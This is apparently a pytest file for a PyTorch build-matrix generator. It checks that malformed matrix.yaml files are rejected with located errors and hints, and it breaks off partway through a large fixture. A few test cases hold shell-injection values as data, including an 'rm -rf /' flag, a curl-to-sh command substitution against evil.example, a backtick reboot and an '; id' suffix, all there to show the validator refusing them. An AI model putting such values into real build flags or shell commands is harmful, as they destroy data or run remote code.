"""Bad matrices: every problem reported at once as `matrix.yaml:LINE:COL: message` with a hint,
exit code 2, no traceback, and not one file of the tree written, touched or deleted.
Also: the schema and the loader agree, and random documents never crash gen-matrix."""

from __future__ import annotations

import json
import re
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path

import jsonschema
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from generator.errors import GenMatrixError
from generator.pipeline import load
from generator.cli import main
from generator.knowledge import KNOWLEDGE_FILE
from generator.pipeline.schema import SCHEMA_FILE, check_schema

from conftest import REPO, expansion_of

REV = "fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3"
BASE = f'pytorch: {{version: "2.8.0"}}\nnixpkgs: {{rev: {REV}}}\n'
GPU = 'gpu: {python: ["3.13"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n'
CPU = 'cpu: {python: ["3.13"], isa: [avx2]}\n'
SHIPPED = (REPO / "matrix.yaml").read_text(encoding="utf-8")


@dataclass(frozen=True)
class Case:
    id: str
    text: str
    where: str  # "LINE:COL" (or "LINE") of the first problem
    words: tuple[str, ...]  # what the message and its hint must say
    schema: bool = False  # the JSON Schema alone refuses it too


# libyaml refuses a surrogate escape where it reads it; PyYAML's own reader lets it through to
# gen-matrix's check of the value. Either way the line is named.
SURROGATE = (("5:30", ("invalid Unicode character escape",)) if load.LOADER is getattr(yaml, "CSafeLoader", None)
             else ("5:20", ("half of a UTF-16 surrogate pair",)))

CASES = [
    Case("yaml-syntax", BASE + 'gpu: {python: ["3.13"], cuda: ["12.8"\n', "4:1",
         ("YAML syntax error", "expected ',' or ']'", "hint: fix the YAML syntax")),
    Case("yaml-bad-indent", BASE + "cpu:\n  python: [\"3.13\"]\n isa: [avx2]\n", "5:2", ("YAML syntax error",)),
    Case("empty-file", "", "1:1", ("the file is empty", "start from the shipped matrix.yaml"), schema=True),
    Case("only-comments", "# nothing here yet\n\n", "1:1", ("the file is empty",), schema=True),
    Case("top-level-list", "- gpu\n- cpu\n", "1:1", ("the file is a list, not a mapping",), schema=True),
    Case("top-level-text", "gpu\n", "1:1", ("the file is a string, not a mapping",), schema=True),
    Case("duplicate-key", BASE + GPU + 'gpu: {python: ["3.12"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n', "4:1",
         ("duplicate key 'gpu' (first written at line 3)", "YAML would silently use only the last")),
    Case("duplicate-nested-key", BASE + 'cpu:\n  python: ["3.13"]\n  isa: [avx2]\n  python: ["3.12"]\n', "6:3",
         ("duplicate key 'python' (first written at line 4)",)),
    Case("unknown-top-level-key", BASE + CPU + "bulid: {jobs: 8}\n", "4:1",
         ("unknown key 'bulid' at the top level", "did you mean 'build'?"), schema=True),
    Case("unknown-nested-key", BASE + 'gpu: {pyhton: ["3.13"], cuda: ["12.8"], sm: [sm90], isa: [avx2]}\n', "3:7",
         ("unknown key 'pyhton' in gpu", "did you mean 'python'?"), schema=True),
    Case("list-given-as-text", BASE + 'cpu: {python: "3.13", isa: [avx2]}\n', "3:15",
         ("cpu.python must be a list, not a string",), schema=True),
    Case("number-given-as-text", BASE + CPU + "build: {jobs: many}\n", "4:15",
         ("build.jobs must be a whole number, not a string",), schema=True),
    Case("number-too-large-for-nix", BASE + CPU + "build: {jobs: 99999999999999999999999}\n", "4:15",
         ("build.jobs must be at most 4096",), schema=True),
    Case("mapping-given-as-list", BASE + "cpu: [avx2]\n", "3:6", ("cpu must be a mapping, not a list",), schema=True),
    Case("misspelt-capability-scope",
         'pytorch: {version: "2.8.0"}\nnixpkgs:\n  rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3\n'
         "  capability_scope: torhc\n" + CPU, "4:21",
         ("nixpkgs.capability_scope: 'torhc' is not allowed here", "did you mean 'torch'?"), schema=True),
    Case("nixpkgs-rev-not-a-commit", 'pytorch: {version: "2.8.0"}\nnixpkgs: {rev: nixos-unstable}\n' + CPU, "2:16",
         ("nixpkgs.rev: 'nixos-unstable' is not valid", "nixpkgs commit"), schema=True),
    Case("two-pins-named-alike",
         'pytorch: {version: "2.8.0"}\nnixpkgs:\n  pins:\n    - {name: a, rev: ' + REV + ', when: {sm: sm90}}\n'
         '    - {name: a, rev: ' + REV + '}\n' + GPU, "5:14",
         ("two pins are named 'a' (the other is pins[0])", "give each pin its own name")),
    Case("no-pin-takes-a-variant",
         'pytorch: {version: "2.8.0"}\nnixpkgs:\n  pins:\n    - {name: a, rev: ' + REV + ', when: {sm: sm80}}\n' + GPU,
         "4:7", ("no nixpkgs pin takes gpu python 3.13, cuda 12.8, sm sm90, isa avx2",
                 "add a pin without `when` at the end of nixpkgs.pins")),
    Case("pin-without-when-hides-the-next",
         'pytorch: {version: "2.8.0"}\nnixpkgs:\n  pins:\n    - {name: a, rev: ' + REV + '}\n'
         '    - {name: b, rev: ' + REV + '}\n' + GPU, "4:7",
         ("nixpkgs.pins[0] has no `when`, so the pins after it are never used", "move it to the end")),
    Case("fix-range-not-a-range", BASE + 'knowledge:\n  fixes:\n    mine: {why: x, when: {cuda: "13"}}\n' + GPU, "5:33",
         ("knowledge.fixes.mine.when.cuda: '13' is not valid", "a version range"), schema=True),
    # a `oneOf` of fixed values and a kind: each is named, the values as written
    Case("companion-when-neither-all-nor-a-rule", BASE + CPU + "companions:\n  - {packages: [torchvision], when: true}\n", "5:37",
         ("companions[0].when must be 'all' or a mapping, not a boolean",), schema=True),
    Case("companion-kind-neither-a-kind-nor-a-list", BASE + CPU + "companions:\n  - {packages: [torchaudio], when: {kind: 7}}\n", "5:43",
         ("companions[0].when.kind must be one of 'gpu', 'cpu', 'darwin', 'rocm' or a list, not a whole number",),
         schema=True),
    Case("compiler-cache-unknown", BASE + "build: {compiler_cache: sccache}\n" + GPU, "3:25",
         ("build.compiler_cache: 'sccache' is not allowed here", "did you mean 'ccache'?"), schema=True),
    # a self-hosted runner keeps the cache between jobs: the default GPU runner, a GPU runner
    # of ci.gpu_runners, a CPU torch's runner of ci.runners
    Case("compiler-cache-on-the-default-self-hosted-runner", BASE + "build: {compiler_cache: ccache}\n" + GPU, "3:25",
         ("build.compiler_cache: ccache would keep the compiler cache on self-hosted runners "
          "([self-hosted, linux, x64, pytorch-builder])", "could plant objects that a later torch links in unseen",
          "`compiler_cache_runners: dedicated` under build:")),
    Case("compiler-cache-on-self-hosted-gpu-and-cpu-runners",
         BASE + "build:\n  jobs: 8\n  compiler_cache: ccache\n" + GPU + CPU +
         "ci:\n  gpu_runners: [{labels: [self-hosted, h100], system: x86_64-linux, sm: [sm90]}]\n"
         "  runners: {x86_64-linux: [self-hosted, big]}\n", "5:19",
         ("self-hosted runners ([self-hosted, big]; [self-hosted, h100])", "GitHub-hosted runners")),
    Case("fix-without-its-file", BASE + "knowledge:\n  fixes:\n    mine: {why: x, when: {isa: [avx2]}}\n" + GPU, "",
         ("no file for the fix 'mine': nix/fixes/mine.nix", "write the fix there")),
    Case("unknown-sm", BASE + 'gpu: {python: ["3.13"], cuda: ["12.8"], sm: [sm91], isa: [avx2]}\n', "3:46",
         ("unknown sm 'sm91'", "did you mean 'sm90'?", "knowledge.sm")),
    Case("unknown-cuda", BASE + 'gpu: {python: ["3.13"], cuda: ["12.88"], sm: [sm90], isa: [avx2]}\n', "3:32",
         ("unknown cuda '12.88'", "did you mean '12.8'?")),
    Case("cuda-for-hand-builds-only", BASE + 'gpu: {python: ["3.13"], cuda: ["12.8", "12.4"], sm: [sm90], isa: [avx2]}\n',
         "3:40", ("CUDA 12.4 is one nixpkgs no longer packages", "known for builds by hand only",
                  "use one of 12.6, 12.8", "`gen-matrix env --cuda 12.4 --gpu GPU`")),
    Case("unknown-python", BASE + 'cpu: {python: ["3.133"], isa: [avx2]}\n', "3:16",
         ("unknown python '3.133'", "did you mean '3.13'?")),
    Case("unknown-isa", BASE + 'cpu: {python: ["3.13"], isa: [avx-2]}\n', "3:31",
         ("unknown isa 'avx-2'", "did you mean 'avx2'?")),
    Case("unknown-value-in-a-rule", BASE + 'cpu:\n  python: ["3.13"]\n  isa: [avx2]\n  exclude:\n    - {isa: avx512f}\n',
         "7:13", ("unknown isa 'avx512f'", "did you mean 'avx512'?")),
    Case("include-cuda-too-old-for-sm120",
         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["12.8"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
         '    - {python: "3.13", cuda: "12.6", sm: sm120, isa: avx2}\n', "9:7",
         ("gpu.include[0] cannot work", "sm120 (Blackwell consumer) needs CUDA >= 12.8; this asks for 12.6")),
    Case("include-sm-dropped-by-cuda-13",
         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
         '    - {python: "3.13", cuda: "13.0", sm: sm61, isa: avx2}\n', "9:7",
         ("sm61 (Pascal) was dropped after CUDA 12.9; this asks for 13.0",)),
    Case("include-jetson-with-x86-isa",
         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
         '    - {python: "3.13", cuda: "13.0", sm: sm110, isa: avx512}\n', "9:7",
         ("sm110 (Blackwell Thor) is a Jetson part, found only on aarch64 hosts; "
          "avx512 is an x86_64 instruction set",)),
    Case("include-gb10-with-x86-isa",
         BASE + 'gpu:\n  python: ["3.13"]\n  cuda: ["13.0"]\n  sm: [sm90]\n  isa: [avx2]\n  include:\n'
         '    - {python: "3.13", cuda: "13.0", sm: sm121, isa: avx2}\n', "9:7",
         ("sm121 (Blackwell GB10) is found only on aarch64 hosts; avx2 is an x86_64 instruction set",)),
    Case("two-variants-one-name",
         BASE + 'naming: {cpu: "{package}-python{python}-cuda12_8-sm90-{isa}"}\n' + GPU + CPU, "5:1",
         ("two variants are both named 'pytorch-python313-cuda12_8-sm90-avx2'",
          "gpu python 3.13, cuda 12.8, sm sm90, isa avx2", "cpu python 3.13, isa avx2",
          "make the naming patterns tell them apart")),
    Case("naming-pattern-not-a-file-name", BASE + 'naming: {cpu: "{package}/python{python}-{isa}"}\n' + CPU, "3:15",
         ("naming.cpu: '{package}/python{python}-{isa}' does not make a safe file name", "lower-case letters")),
    Case("naming-pattern-lacks-an-axis", BASE + 'naming: {cpu: "{package}-python{python}"}\n' + CPU, "3:15",
         ("naming.cpu lacks {isa}, so two variants would get the same name",)),
    Case("knowledge-row-name-not-a-file-name",
         BASE + "knowledge:\n  isa:\n    AVX2X: {arch: x86_64, flags: [-mavx2], cpuinfo: [avx2]}\n" + CPU, "5:5",
         ("knowledge.isa: the name 'AVX2X' is not valid", "lower-case letters"), schema=True),
    Case("knowledge-cuda-driver-not-a-version",
         BASE + 'knowledge:\n  cuda:\n    "12.8": {driver: "570.abc"}\n' + CPU, "5:22",
         ("knowledge.cuda.12.8.driver: '570.abc' is not valid", "a dotted driver version such as 570.26"),
         schema=True),
    Case("knowledge-row-incomplete",
         BASE + "knowledge:\n  sm:\n    sm130: {capability: \"13.0\"}\n" + CPU, "5:12",
         ("new sm row 'sm130' lacks family, min_cuda, hosts",)),
    Case("expands-to-nothing", BASE + 'gpu: {python: ["3.13"], cuda: ["13.0"], sm: [sm61], isa: [avx2]}\n', "3:1",
         ("the matrix expands to no variant", "sm61 (Pascal) was dropped after CUDA 12.9", "gen-matrix explain")),
    Case("no-section", BASE, "1:1", ("the matrix has no gpu:, cpu:, darwin: or rocm: section",)),
    Case("shell-in-isa-flag",
         BASE + 'knowledge:\n  isa:\n    avx2: {flags: ["-mavx2;rm -rf /"]}\n' + CPU, "5:20",
         ("knowledge.isa.avx2.flags[0]: '-mavx2;rm -rf /' is not valid", "it reaches a shell"), schema=True),
    Case("command-substitution-in-isa-flag",
         BASE + "knowledge:\n  isa:\n    avx2: {flags: ['-march=$(curl evil.example|sh)']}\n" + CPU, "5:20",
         ("is not valid", "it reaches a shell"), schema=True),
    Case("shell-in-disabled-feature",
         BASE + 'knowledge:\n  isa:\n    avx2: {disable: ["FBGEMM=0 `reboot`"]}\n' + CPU, "5:22",
         ("knowledge.isa.avx2.disable[0]", "is not valid", "USE_<X>=0"), schema=True),
    Case("shell-in-blas", BASE + 'knowledge:\n  accelerator:\n    mps: {blas: "vecLib; id"}\n'
         'darwin: {python: ["3.13"], accelerator: [mps]}\n', "5:17",
         ("knowledge.accelerator.mps.blas: 'vecLib; id' is not valid", "BLAS="), schema=True),
    Case("nul-in-text", BASE + 'description: {cpu: "PyTorch\\0 {isa}"}\n' + CPU, "3:20",
         ("this text holds a NUL character", "no Nix string can hold")),
    Case("lone-surrogate", BASE + 'knowledge:\n  sm:\n    sm90: {family: "Hopper \\ud800"}\n' + GPU, *SURROGATE),
    Case("control-character", BASE + CPU + "build: {jobs: 8}\x07\n", "4:17",
         ("the file holds the character U+0007, which YAML does not allow",)),
    Case("not-utf8", BASE + CPU + "build: {jobs: 8} # caf\udce9\n", "4:23",
         ("the byte 0xe9 is not UTF-8 text", "save the file as UTF-8")),
    Case("alias-contains-itself", BASE + CPU + "build: &loop {jobs: 8, more: *loop}\n", "4:8",
         ("this alias refers to a value that contains it",)),
    Case("nested-too-deep", BASE + CPU + "build: " + "[" * 70 + "]" * 70 + "\n", "4:",
         ("nested more than 64 levels deep",)),
    Case("terminal-escape-in-text", BASE + 'knowledge:\n  sm:\n    sm90: {family: "Hopper \\e[2J"}\n' + GPU, "5:20",
         ("this text holds the control character U+001B, which a terminal would obey",)),
    Case("carriage-return-in-text", BASE + 'description: {cpu: "PyTorch\\r {isa}"}\n' + CPU, "3:20",
         ("this text holds the control character U+000D",)),
    Case("config-integer-too-large-for-nix",
         'pytorch: {version: "2.8.0"}\nnixpkgs: {rev: ' + REV + ', config: {big: 9223372036854775808}}\n' + CPU,
         "2:", ("nixpkgs.config.big",), schema=True),
    Case("timeout-too-long", BASE + CPU + "ci: {timeout_minutes: 99999999999999999999}\n", "4:",
         ("at most 7200",), schema=True),
    Case("formatted-field", BASE + 'description: {cpu: "PyTorch {pytorch!x} for {isa:>9}"}\n' + CPU, "3:20",
         ("description.cpu: '{pytorch!x}' formats its field", "'{isa:>9}' formats its field",
          "write the field plainly")),
]


def tree(root: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under `root` with its bytes and modification time."""
    return {p.relative_to(root).as_posix(): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in sorted(root.rglob("*")) if p.is_file()}


def write_matrix(root: Path, text: str) -> None:
    # surrogateescape turns the lone surrogates of a case back into the raw bytes they stand for
    (root / "matrix.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> Path:
    """A repository generated from the shipped matrix: the tree a bad edit must leave alone."""
    root = tmp_path_factory.mktemp("generated")
    shutil.copy(REPO / "matrix.yaml", root / "matrix.yaml")
    result = CliRunner().invoke(main, ["--root", str(root)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return root


@pytest.fixture
def repository(generated, tmp_path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(generated, root)
    return root


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_matrix_is_refused_with_its_location_and_nothing_changes(case, repository, run):
    write_matrix(repository, case.text)
    before = tree(repository)
    result = run("--root", repository)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    first = result.stderr.splitlines()[0]
    assert re.match(rf"error: \S*matrix\.yaml:{case.where}", first), result.stderr
    for words in case.words:
        assert words in result.stderr, result.stderr
    assert "hint: " in result.stderr
    assert tree(repository) == before

def builder_case(id: str, entry: str, where: str, *words: str, schema: bool = False, more: str = "") -> Case:
    """A matrix whose ci.builders holds `entry` (a flow mapping on line 5) and then `more`."""
    return Case(id, BASE + GPU + "ci:\n  builders:\n    - " + entry + "\n" + more, where, words, schema=schema)


KEYS = "ssh_key_secret: KEY, known_hosts_secret: HOST"
BUILDER_CASES = [
    builder_case("builder-url-not-ssh", "{url: 'https://b.example.org', systems: [x86_64-linux], " + KEYS + "}", "6:13",
                 "ci.builders[0].url: 'https://b.example.org' is not valid", schema=True),
    builder_case("builder-unknown-system", "{url: 'ssh-ng://b', systems: [x86_64-linux, riscv64-linux], " + KEYS + "}",
                 "6:51", "ci.builders[0].systems[1]: 'riscv64-linux' is not allowed here", schema=True),
    builder_case("builder-max-jobs-zero", "{url: 'ssh-ng://b', systems: [x86_64-linux], max_jobs: 0, " + KEYS + "}",
                 "6:62", "ci.builders[0].max_jobs must be at least 1", schema=True),
    builder_case("builder-feature-not-a-feature", "{url: 'ssh://b', systems: [x86_64-linux], features: ['big parallel'], "
                 + KEYS + "}", "6:60", "ci.builders[0].features[0]: 'big parallel' is not valid", schema=True),
    builder_case("builder-secret-not-a-name", "{url: 'ssh-ng://b', systems: [x86_64-linux], ssh_key_secret: GITHUB_KEY, "
                 "known_hosts_secret: HOST}", "6:68", "ci.builders[0].ssh_key_secret: 'GITHUB_KEY' is not valid",
                 schema=True),
    builder_case("builder-one-secret-for-both", "{url: 'ssh-ng://b', systems: [x86_64-linux], ssh_key_secret: KEY, "
                 "known_hosts_secret: KEY}", "6:93", "the secret KEY cannot hold both the ssh key and the known-hosts line",
                 "name a secret of its own for each"),
    builder_case("builder-floxhub-token", "{url: 'ssh-ng://b', systems: [x86_64-linux], ssh_key_secret: FLOX_FLOXHUB_TOKEN, "
                 "known_hosts_secret: HOST}", "6:68", "FLOX_FLOXHUB_TOKEN is the FloxHub token's secret",
                 "name a secret that holds this builder's value alone"),
    builder_case("builder-twice", "{url: 'ssh-ng://b', systems: [x86_64-linux], " + KEYS + "}", "7:13",
                 "ssh-ng://b is already ci.builders[0]", "list each builder once",
                 more="    - {url: 'ssh-ng://b', systems: [aarch64-linux], " + KEYS + "}\n"),
]


@pytest.mark.parametrize("case", BUILDER_CASES, ids=[c.id for c in BUILDER_CASES])
def test_a_bad_builder_is_refused_with_its_location_and_nothing_changes(case, repository, run):
    test_bad_matrix_is_refused_with_its_location_and_nothing_changes(case, repository, run)


@pytest.mark.parametrize("text", [
    BASE + "build: {compiler_cache: ccache, compiler_cache_runners: dedicated}\n" + GPU,  # stated
    BASE + "build: {compiler_cache: ccache}\n" + CPU,  # ubuntu-latest
    # a GPU runner without the label, as a larger GitHub-hosted runner is; the unused default
    # GPU runner of another system does not count
    BASE + "build: {compiler_cache: ccache}\n" + GPU + CPU
    + "ci: {gpu_runners: [{labels: [gpu-h100], system: x86_64-linux, sm: [sm90]}]}\n",
    BASE + "build: {compiler_cache: none}\n" + GPU,  # off
], ids=["dedicated", "github-hosted", "gpu-runner-without-the-label", "off"])
def test_the_compiler_cache_is_offered_on_github_hosted_runners_or_where_the_matrix_says_they_are_its_own(
        text, project, run):
    write_matrix(project, text)
    result = run("--root", project)
    assert result.exit_code == 0, result.output
    assert "self-hosted" not in result.stderr


def test_every_problem_is_reported_at_once(repository, run):
    write_matrix(repository, BASE + 'cpu: {pyhton: ["3.13"], isa: avx2}\ncpu: {}\nbuild: {jobs: 0}\n')
    before = tree(repository)
    result = run("--root", repository)
    assert result.exit_code == 2
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert [re.sub(r"^error: \S*matrix\.yaml:", "", line) for line in errors] == [
        "3:7: unknown key 'pyhton' in cpu",
        "3:30: cpu.isa must be a list, not a string",
        "4:1: duplicate key 'cpu' (first written at line 3)",
        "5:15: build.jobs must be at least 1",
    ]
    assert tree(repository) == before


def test_every_unknown_value_is_reported_at_once(repository, run):
    write_matrix(repository, BASE + 'gpu: {python: ["3.31"], cuda: ["12.7"], sm: [sm91, sm9O], isa: [avx3]}\n')
    result = run("--root", repository)
    assert result.exit_code == 2
    assert len([line for line in result.stderr.splitlines() if line.startswith("error: ")]) == 5
    for value in ("python '3.31'", "cuda '12.7'", "sm 'sm91'", "sm 'sm9O'", "isa 'avx3'"):
        assert f"unknown {value}" in result.stderr


def test_a_missing_matrix_is_refused(tmp_path, run):
    result = run("--root", tmp_path)
    assert result.exit_code == 2
    assert "matrix.yaml: file not found" in result.stderr and "--matrix PATH" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_an_exclude_that_matches_nothing_is_a_warning_at_its_location(repository, run):
    # sm61 only has avx and avx2 (the restrict rule), so this rule has nothing left to exclude
    write_matrix(repository, SHIPPED.replace("      only: {isa: [avx, avx2]}\n",
                                             "      only: {isa: [avx, avx2]}\n  exclude:\n    - {sm: sm61, isa: avx512}\n"))
    before = tree(repository)
    result = run("--root", repository)
    assert result.exit_code == 0, result.output
    assert re.search(r"warning: \S*matrix\.yaml:40:7: gpu\.exclude\[0\] matches no variant: sm sm61, isa avx512",
                     result.stderr), result.stderr
    assert "hint: remove the rule" in result.stderr
    assert re.search(r" 0 written, \d+ unchanged, 0 removed", result.stdout), result.stdout
    assert tree(repository) == before


def test_capability_scope_torch_refuses_an_sm_the_binary_cache_does_not_serve(repository, run):
    # CUDA 12.8's cache has no sm61 (nor Jetson) kernels: torch alone would leave magma and NCCL without them
    write_matrix(repository, SHIPPED.replace("  capability_scope: auto\n", "  capability_scope: torch\n"))
    before = tree(repository)
    result = run("--root", repository)
    assert result.exit_code == 2, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, result.stderr
    assert re.search(r"error: \S*matrix\.yaml:\d+:21: capability_scope torch cannot build sm61 with CUDA 12\.8: "
                     r"nixpkgs' binary cache builds CUDA 12\.8's libraries for 7\.5, .* only: magma and NCCL from "
                     r"it hold no kernels for sm61 \(6\.1\)", result.stderr), result.stderr
    assert "set nixpkgs.capability_scope to auto" in result.stderr
    assert tree(repository) == before
    # auto: nixpkgs-wide for sm61 only, torch alone elsewhere
    write_matrix(repository, SHIPPED)
    expansion = expansion_of(repository)
    scopes = {v.sm.name: expansion.matrix.capability_scope_of(v) for v in expansion.variants
              if v.sm is not None and not v.is_companion}
    assert scopes["sm61"] == "nixpkgs" and scopes["sm90"] == "torch" and scopes["sm120"] == "torch"


def test_an_sm_that_pairs_with_no_chosen_isa_is_a_warning_at_its_value(project, run):
    write_matrix(project, BASE + 'gpu: {python: ["3.13"], cuda: ["13.0"], sm: [sm90, sm121], isa: [avx2, avx512]}\n')
    result = run("--root", project)
    assert result.exit_code == 0, result.output
    assert re.search(r"warning: \S*matrix\.yaml:3:52: gpu\.sm sm121 yields no variant: sm121 \(Blackwell GB10\) "
                     r"is found only on aarch64 hosts; avx2 is an x86_64 instruction set", result.stderr), result.stderr
    assert "gen-matrix explain --sm sm121" in result.stderr
    assert sorted(p.name for p in (project / ".flox/pkgs").iterdir()) == [
        "pytorch-python313-cuda13_0-sm90-avx2.nix", "pytorch-python313-cuda13_0-sm90-avx512.nix"]


def test_a_cuda_that_suits_no_chosen_sm_is_a_warning(project, run):
    write_matrix(project, BASE + 'gpu: {python: ["3.13"], cuda: ["12.8", "13.0"], sm: [sm61], isa: [avx2]}\n')
    result = run("--root", project)
    assert result.exit_code == 0
    assert re.search(r"matrix\.yaml:3:40: gpu\.cuda 13\.0 yields no variant: sm61 \(Pascal\) was dropped after "
                     r"CUDA 12\.9", result.stderr), result.stderr


def test_the_shipped_matrix_has_no_warning(run):
    result = run("check", "--root", REPO)
    assert result.exit_code == 0 and result.stderr == ""


# YAML reads 13.1 as the text of a number, but 13 as an integer: both are CUDA releases
@pytest.mark.parametrize("min_cuda, cuda, kept", [("13.1", "[13.0, 13.1]", "13_1"), ("13", "[12.9, 13.0]", "13_0")])
def test_versions_written_as_numbers_still_work(project, run, min_cuda, cuda, kept):
    write_matrix(project, BASE + "knowledge:\n  sm:\n    sm130: {capability: \"13.0\", family: Next, "
                 f"min_cuda: {min_cuda}, max_cuda: 14, hosts: [x86_64]}}\n"
                 f"gpu: {{python: [3.13], cuda: {cuda}, sm: [sm130], isa: [avx2]}}\n")
    result = run("--root", project)
    assert result.exit_code == 0, result.output
    assert [p.name for p in (project / ".flox/pkgs").iterdir()] == [f"pytorch-python313-cuda{kept}-sm130-avx2.nix"]


# --- (2) the JSON Schema and the loader agree ---------------------------------------------

def schema_errors(text: str) -> list[str]:
    """What the JSON Schema alone, as an editor applies it, finds wrong with `text`."""
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    return [error.message for error in validator.iter_errors(yaml.safe_load(text))]


def test_shipped_matrix_and_knowledge_table_pass_the_schema_and_the_loader(run):
    assert schema_errors(SHIPPED) == []
    shipped = yaml.safe_load(SHIPPED)
    knowledge = yaml.safe_load(KNOWLEDGE_FILE.read_text(encoding="utf-8"))
    assert schema_errors(yaml.safe_dump(dict(shipped, knowledge=knowledge))) == []
    # and gen-matrix's own check (duplicate keys, unwritable text, nesting), which a run leaves out
    check_schema(load.read(KNOWLEDGE_FILE, "generator/knowledge.yaml"), "knowledge")
    assert run("check", "--root", REPO).exit_code == 0


def test_an_empty_text_where_the_schema_wants_one_is_empty_with_the_keys_description_as_hint():
    text = ("workarounds:\n"
            "  one: {why: w, source: s, when: {}, env: {USE_X: '', USE_Y: '0'}}\n"
            "  two: {why: w, source: s, when: {}, env: {USE_Z: ''}}\n")
    with pytest.raises(GenMatrixError) as raised:
        check_schema(load.parse(text, "m.yaml"), "knowledge")
    found = {(str(p.where), p.message): p.hint for p in raised.value.problems}
    env = next(hint for (_, message), hint in found.items() if message.endswith("env.USE_X is empty"))
    assert env.startswith("expected one line, not empty") and env.endswith("write 0 to turn a switch off")
    assert sorted(where for where, message in found if message.endswith(" is empty")) == ["m.yaml:2:51", "m.yaml:3:51"]
    assert not any("USE_Y" in message for _, message in found)


def test_shipped_matrix_points_editors_at_the_schema():
    first = SHIPPED.splitlines()[0]
    assert first == "# yaml-language-server: $schema=generator/matrix.schema.json"
    assert (REPO / "generator/matrix.schema.json").samefile(SCHEMA_FILE)


EVERY_KEY = """\
pytorch: {version: "2.8.0", source: {owner: pytorch, repo: pytorch, rev: v2.8.0,
                                      hash: "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}}
nixpkgs:
  capability_scope: nixpkgs
  pins:
    - {name: hopper, rev: 0123456789abcdef0123456789abcdef01234567, sha256: null, when: {sm: sm90},
       patches: {magma: [{url: "https://example.org/magma.patch", hash: "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}]},
       config: {cudaForwardCompat: false}}
    - {name: default, rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3}
build: {jobs: 4, system_features: [big-parallel, kvm], compiler_cache: ccache, compiler_cache_runners: dedicated}
naming: {gpu: "t-{python}-{cuda}-{sm}-{isa}-{package}", cpu: "t-{python}-{isa}-{package}",
         darwin: "t-{python}-{accelerator}-{package}", rocm: "t-{python}-{rocm}-{gfx}-{isa}-{package}"}
description: {gpu: "{pytorch} {family} {gpus} {capability}", cpu: "{cpus}", darwin: "{accelerator}",
              rocm: "{pytorch} {family} {gpus} {rocm} {gfx}",
              companion: "{package} {torch} {torch_description}"}
ci:
  organisation_variable: FLOX_ORG
  organisation: my-org
  main_branch: main
  timeout_minutes: 60
  shard_size: 100
  gen_matrix: "git+https://example.org/acme/gen-matrix?rev=0123456789abcdef0123456789abcdef01234567"
  plan_runner: [ubuntu-latest]
  runners: {x86_64-linux: [big], aarch64-linux: [arm], x86_64-darwin: [mac13], aarch64-darwin: [mac]}
  gpu_runners: [{labels: [self-hosted, gpu], system: x86_64-linux, sm: [sm90]},
                {labels: [self-hosted, mi300x], system: x86_64-linux, gfx: [gfx942]}]
  kind_runners: {gpu: {x86_64-linux: [self-hosted, cuda]}, cpu: {aarch64-linux: [arm-big]}, darwin: {aarch64-darwin: [m4]},
                 rocm: {x86_64-linux: [self-hosted, rocm]}}
  substituters: [{url: "https://cache.nixos-cuda.org", key: "cache.nixos-cuda.org:74DUi4Ye579gUqzH4ziL9IyiJBlDpMRn9MBN8oNan9M="}]
  cache: {type: cachix, substituter: "https://my-org.cachix.org", public_key: "my-org.cachix.org-1:AAAA",
          name: my-org, secret: CACHIX_AUTH_TOKEN}
  builders:
    - {url: "ssh-ng://nix@builder.example.org", systems: [x86_64-linux, aarch64-linux], features: [big-parallel, kvm],
       max_jobs: 2, ssh_key_secret: BUILDER_KEY, known_hosts_secret: BUILDER_HOST}
companions:
  - {packages: [torchvision, torchaudio], when: {kind: gpu, sm: sm90}}
gpu:
  python: ["3.13"]
  cuda: ["12.8"]
  sm: [sm90, sm130]
  isa: [avx2, avx10]
  restrict:
    - {when: {sm: sm130}, only: {isa: [avx10]}}
  exclude:
    - {sm: sm90, isa: avx10, python: ["3.13"], cuda: "12.8"}
  include:
    - {python: "3.12", cuda: "12.8", sm: sm90, isa: avx2}
cpu:
  python: ["3.13"]
  isa: [avx10]
  restrict: [{when: {isa: avx10}, only: {python: "3.13"}}]
  exclude: [{python: "3.13", isa: avx2}]
  include: [{python: "3.12", isa: avx2}]
rocm:
  python: ["3.13"]
  rocm: ["6.4"]
  gfx: [gfx942, gfx1010]
  isa: [avx2, avx10]
  restrict: [{when: {gfx: gfx1010}, only: {isa: avx2}}]
  exclude: [{gfx: gfx942, isa: avx10, python: "3.13", rocm: "6.4"}]
  include: [{python: "3.12", rocm: "6.4", gfx: gfx942, isa: avx2}]
darwin:
  python: ["3.13"]
  accelerator: [mps, metal2]
  restrict: [{when: {accelerator: metal2}, only: {python: ["3.13"]}}]
  exclude: [{accelerator: metal2, python: "3.12"}]
  include: [{python: "3.12", accelerator: mps}]
knowledge:
  sm:
    sm130: {capability: "13.0", family: Next, min_cuda: "12.8", max_cuda: null, jetson: false,
            hosts: [x86_64], cudnn: true, gpus: [Example], names: [Example Ti], pytorch: ">=2.7",
